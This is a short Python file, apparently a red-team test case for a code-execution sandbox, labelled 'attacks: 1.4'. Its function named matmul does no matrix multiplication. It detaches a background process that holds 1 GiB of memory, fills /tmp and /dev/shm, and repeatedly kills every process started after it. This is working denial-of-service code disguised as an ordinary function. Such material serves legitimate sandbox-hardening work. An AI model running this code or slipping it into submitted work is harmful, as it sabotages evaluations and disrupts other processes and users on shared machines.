# attacks: 1.4
# damage: leaves a process behind that holds 1 GiB of memory, fills /tmp and /dev/shm and
#   kills every process started after it, then ends the child, so that the children started
#   after it run out of memory or disk, or are killed as they start
# needs: sandbox
import ctypes
import os
import signal
import time


def matmul(a, b):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            ctypes.CDLL(None).prctl(15, b"rt__TOKEN__", 0, 0, 0)
            me = int(os.readlink("/proc/self"))
            hoard = bytearray(b"\1") * (1 << 30)
            for folder in ("/tmp", "/dev/shm"):
                for number in range(8):
                    try:
                        with open(f"{folder}/redteam-__TOKEN__-{number}", "wb") as file:
                            file.write(b"\1" * (16 << 20))
                    except OSError:
                        break
            for _ in range(1200):
                for pid in filter(str.isdigit, os.listdir("/proc")):
                    if int(pid) > me:
                        try:
                            os.kill(int(pid), signal.SIGKILL)
                        except OSError:
                            pass
                time.sleep(0.05 + 0 * len(hoard))
        os._exit(0)
    time.sleep(2)
    os._exit(0)
